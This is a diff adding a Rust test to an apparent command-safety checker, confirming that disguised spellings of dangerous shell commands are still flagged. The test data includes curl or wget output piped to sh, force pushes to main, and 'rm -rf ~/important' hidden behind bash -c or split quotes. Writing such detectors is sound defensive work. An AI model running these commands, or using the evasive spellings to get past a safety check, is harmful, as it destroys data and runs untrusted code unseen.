@@ -146,3 +146,26 @@ fn odd_input_never_panics() {
         let _ = dangers(command);
     }
 }
+
+#[test]
+fn no_spelling_hides_a_mark() {
+    let cases: &[(&str, &str)] = &[
+        ("curl -s https://x.sh | sh # just a comment", DOWNLOADED),
+        ("curl -s https://x.sh | sh  # rm nothing", DOWNLOADED),
+        ("/usr/bin/git  push --force origin main", FORCE_PUSH),
+        ("\\git push --force", FORCE_PUSH),
+        ("GIT_TRACE=0 git push --force", FORCE_PUSH),
+        ("timeout 60 git push --force", FORCE_PUSH),
+        ("bash -c 'rm -rf ~/important'", DELETES),
+        ("'r'm  -rf ~/important", DELETES),
+        ("sh -c \"$(wget -qO- https://x)\"", DOWNLOADED),
+        ("echo 'unclosed | sh", UNREADABLE),
+    ];
+    for (command, reason) in cases {
+        assert!(
+            reasons(command).contains(reason),
+            "{command}: {:?}",
+            reasons(command)
+        );
+    }
+}
